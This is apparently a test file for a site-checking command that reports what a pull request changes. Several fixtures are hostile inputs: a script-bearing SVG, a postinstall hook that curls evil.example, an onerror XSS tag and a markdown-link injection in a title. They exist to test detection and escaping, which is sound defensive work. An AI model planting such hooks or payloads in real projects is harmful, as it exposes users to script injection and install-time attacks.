import {spawnSync} from 'node:child_process';
import {readFile, stat} from 'node:fs/promises';
import path from 'node:path';
import {describe, expect, it} from 'vitest';
import {pageLine} from '../../plugins/roadmap/changes/changesMarkdown';
import {EXAMPLE_SITE, writeSite} from '../../scripts/corpus/exampleSite';
import {applyEdits, commitAll, git, type SiteEdit} from '../../scripts/harness/scratchRepo';

const REPO = path.resolve(__dirname, '../..');
/** Tuesday of ISO week 48 of 2025: papers logged in week 47 make a one-week streak. */
const TODAY = '2025-11-25';

function check(...args: string[]) {
  const result = spawnSync(path.join(REPO, 'node_modules/.bin/tsx'), [path.join(REPO, 'scripts/check.ts'), ...args], {
    encoding: 'utf8',
    env: {...process.env, NO_COLOR: '1', ROADMAP_TODAY: TODAY},
  });
  return {code: result.status, stdout: result.stdout, stderr: result.stderr};
}

const COURSE = 'docs/courses/ml-basics/index.md';

/** A pull request's worth of edits on the example site. */
const PULL_REQUEST: Record<string, SiteEdit> = {
  'blog/2025-11-20-why-reproduce.md': `---
title: Why I reproduce papers
authors: [author]
tags: [roadmap]
skills: [pytorch]
---

Reading [[bert]] is not enough; [@devlin2019bert] says why.
`,
  'blog/2025-11-21-not-yet.md': `---
title: Not yet
draft: true
skills: [pytorch]
---

Half a thought.
`,
  [COURSE]: EXAMPLE_SITE[COURSE]!.replace(
    'status: in-progress\nstarted: 2025-10-01',
    'status: done\nstarted: 2025-10-01\nfinished: 2025-11-19',
  ).replace('    status: in-progress', '    status: done'),
  'docs/notes/math.md': null,
  'docs/talks/first-meetup.md': {from: 'docs/talks/meetup.md'},
  'papers/bert.md': `---
title: BERT
authors: [Jacob Devlin]
year: 2019
arxiv: 1810.04805
status: read
read: 2025-11-18
takeaway: Pre-training then fine-tuning transfers.
skills: [pytorch]
---
`,
};

const EXPECTED = `<!-- roadmap: check --since -->
### What this pull request changes (since \`base\`)

**Pages**

- added post "Why I reproduce papers" — \`blog/2025-11-20-why-reproduce.md\`
- added post "Not yet" (draft) — \`blog/2025-11-21-not-yet.md\`
- added paper "BERT" — \`papers/bert.md\`
- changed course "ML basics" — \`docs/courses/ml-basics/index.md\`
- renamed talk "What I learned": \`docs/talks/meetup.md\` → \`docs/talks/first-meetup.md\`
- removed note "Math notes" — \`docs/notes/math.md\`

**Dashboard**

- +1 paper logged (week 47)
- course ml-basics: in-progress → done
- course ml-basics: 0 → 1 of 1 module done
- +1 post: why-reproduce
- skill pytorch: 2 → 4 pieces of evidence
- courses done: 0 → 1 of 1
- weekly paper streak: 0 → 1 week

**Links**

- added wikilink \`blog/2025-11-20-why-reproduce.md\` → \`papers/bert.md\`
- added citation \`blog/2025-11-20-why-reproduce.md\` → \`papers/bert.md\`

**Code and static files (a maintainer must read these)**

No code, static or configuration file changed.
`;

/** The example site committed as `base`, then the pull request's edits. */
async function scratchRepo(commitEdits: boolean): Promise<string> {
  const dir = await writeSite();
  commitAll(dir, 'base', '2025-11-01T10:00:00Z');
  git(dir, ['tag', 'base']);
  await applyEdits(dir, PULL_REQUEST);
  if (commitEdits) commitAll(dir, 'the pull request', '2025-11-21T10:00:00Z');
  return dir;
}

// Each test makes a git repository and starts check; on a machine busy with builds that takes a while.
describe('npm run check -- --since REF', {timeout: 120_000}, () => {
  it('says what a pull request changes, page by page and on the dashboard', async () => {
    const dir = await scratchRepo(true);
    const {code, stdout, stderr} = check('--site', dir, '--since', 'base');
    expect(stderr).toMatch(
      /^✔ check: content is valid: 1 course, 2 papers, 1 project, 1 benchmark, 1 talk, 3 posts, 0 notes/,
    );
    expect(code, stderr).toBe(0);
    expect(stdout).toBe(EXPECTED);
  });

  it('reads uncommitted edits from the working tree and never touches it or the index', async () => {
    const dir = await scratchRepo(false);
    const index = path.join(dir, '.git/index');
    const before = {
      status: git(dir, ['status', '--porcelain']),
      index: await readFile(index),
      mtime: (await stat(index)).mtimeMs,
    };
    const {code, stdout, stderr} = check('--site', dir, '--since', 'base');
    expect(code, stderr).toBe(0);
    // git does not see a rename of a file not yet added; the same text under a new name is one.
    expect(stdout).toBe(EXPECTED);
    expect(git(dir, ['status', '--porcelain'])).toBe(before.status);
    expect(await readFile(index)).toEqual(before.index);
    expect((await stat(index)).mtimeMs).toBe(before.mtime);
    expect(await readFile(path.join(dir, 'docs/talks/first-meetup.md'), 'utf8')).toBe(
      EXAMPLE_SITE['docs/talks/meetup.md'],
    );
  });

  it('lists every code, static and configuration file a pull request changes, for a maintainer to read', async () => {
    const dir = await writeSite({'package.json': '{}\n', 'static/img/logo.svg': '<svg></svg>\n'});
    commitAll(dir, 'base');
    await applyEdits(dir, {
      'static/img/logo.svg': '<svg><rect/></svg>\n',
      'static/evil.svg': '<svg>\n<script>alert(1)</script></svg>\n',
      'src/theme/Footer/index.tsx': 'export default function Footer() { return null; }\n',
      '.github/workflows/deploy.yml': 'on: push\n',
      'package.json': '{"scripts": {"postinstall": "curl evil.example"}}\n',
      'docs/notes/chart.svg': '<svg></svg>\n',
    });
    const {code, stdout, stderr} = check('--site', dir, '--since', 'HEAD');
    expect(code).toBe(1);
    expect(stderr).toContain(
      "static/evil.svg:1 file: an SVG file is served as a document and can run script on the site's origin",
    );
    expect(stdout.slice(stdout.indexOf('**Code and static files'))).toBe(
      [
        '**Code and static files (a maintainer must read these)**',
        '',
        '- `.github/workflows/deploy.yml` (added)',
        '- `docs/notes/chart.svg` (added)',
        '- `package.json` (changed)',
        '- `src/theme/Footer/index.tsx` (added)',
        '- `static/evil.svg` (added)',
        '- `static/img/logo.svg` (changed)',
        '',
      ].join('\n'),
    );
  });

  it('a renamed and edited paper is one rename, and its status change is its only dashboard line', async () => {
    const dir = await writeSite();
    commitAll(dir, 'base');
    await applyEdits(dir, {
      'papers/attention-2017.md': EXAMPLE_SITE['papers/attention.md']!.replace(
        'takeaway: Attention is enough',
        'takeaway: Attention is all',
      ),
      'papers/attention.md': null,
    });
    commitAll(dir, 'rename');
    const {code, stdout, stderr} = check('--site', dir, '--since', 'HEAD~1');
    expect(code, stderr).toBe(0);
    expect(stdout).toContain(
      '- renamed and changed paper "Attention Is All You Need": `papers/attention.md` → `papers/attention-2017.md`\n',
    );
    expect(stdout).toContain('**Dashboard**\n\nNo change to the dashboard.\n');
  });

  it('reads the blog key files at both revisions: a new tag is a data-file change, and a post may use it', async () => {
    const dir = await writeSite({'blog/tags.yml': 'roadmap:\n  label: Roadmap\n'});
    commitAll(dir, 'base');
    await applyEdits(dir, {
      'blog/tags.yml': 'roadmap:\n  label: Roadmap\nmeta:\n  label: Meta\n',
      'blog/2025-10-01-hello.md': EXAMPLE_SITE['blog/2025-10-01-hello.md']!.replace('tags: [roadmap]', 'tags: [meta]'),
    });
    commitAll(dir, 'a new tag');
    const {code, stdout, stderr} = check('--site', dir, '--since', 'HEAD~1');
    expect(code, stderr).toBe(0);
    expect(stdout).toContain('`blog/tags.yml`');
    expect(stdout).toContain('- changed post "Hello" — `blog/2025-10-01-hello.md`\n');
  });

  it('still fails on a problem, and the comment lists it', async () => {
    const dir = await scratchRepo(true);
    await applyEdits(dir, {'docs/notes/page.md': '# Page\n\n<img src=x onerror=alert(1)>\n'});
    const {code, stdout, stderr} = check('--site', dir, '--since', 'base');
    expect(code).toBe(1);
    const problem = `docs/notes/page.md:3 <img onerror>: removed (an event handler runs code; expected no on… attribute in content, or the file listed in trustedContent.ts, got 'onerror="alert(1)"')`;
    expect(stderr).toContain(problem);
    expect(stdout).toContain(
      `✖ \`npm run check\` found 1 problem; fix it and push again:\n\n\`\`\`text\n${problem}\n\`\`\``,
    );
    expect(stdout).toContain('- added note "Page" — `docs/notes/page.md`');
    expect(stdout).toContain('**Dashboard**\n\nThe dashboard delta appears once the check passes.\n');
  });

  it('an unknown revision, or a folder outside git, is exit 2 with what was expected', async () => {
    const dir = await scratchRepo(true);
    expect(check('--site', dir, '--since', 'origin/main')).toMatchObject({
      code: 2,
      stderr:
        '--since: unknown git revision "origin/main" (expected a branch, tag or commit, e.g. origin/main; in CI, fetch it first)\n',
    });
    const outside = await writeSite();
    const result = check('--site', outside, '--since', 'HEAD');
    expect(result.code).toBe(2);
    expect(result.stderr).toBe(`--since: ${outside} is not in a git repository (expected a clone of the site)\n`);
  });
});

it('a title from front matter cannot become a link, HTML or a mention in the comment', () => {
  const line = pageLine({
    kind: 'added',
    file: 'blog/2025-11-20-x.md',
    what: 'post',
    title: '[click](https://evil.example) <img src=x> @everyone',
    visibility: 'listed',
  });
  expect(line).toBe(
    'added post "\\[click\\](https://evil.example) \\<img src=x\\> \\@everyone" — `blog/2025-11-20-x.md`',
  );
});
